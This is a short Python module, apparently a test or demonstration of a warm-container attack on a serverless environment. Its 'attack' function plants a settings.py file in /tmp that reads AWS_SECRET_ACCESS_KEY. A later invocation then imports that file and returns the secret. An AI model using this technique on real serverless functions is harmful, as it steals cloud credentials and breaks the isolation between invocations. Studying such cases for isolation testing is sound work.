"""One event leaves a module in /tmp; a later one imports it, in the same warm environment."""

import importlib
import os
import sys


def attack(event):
    path = os.path.join(event["tmp"], "settings.py")
    if not os.path.exists(path):
        with open(path, "w") as file:
            file.write("import os\nSTOLEN = os.environ['AWS_SECRET_ACCESS_KEY']\n")
        return "left"
    sys.path.insert(0, event["tmp"])
    return importlib.import_module("settings").STOLEN
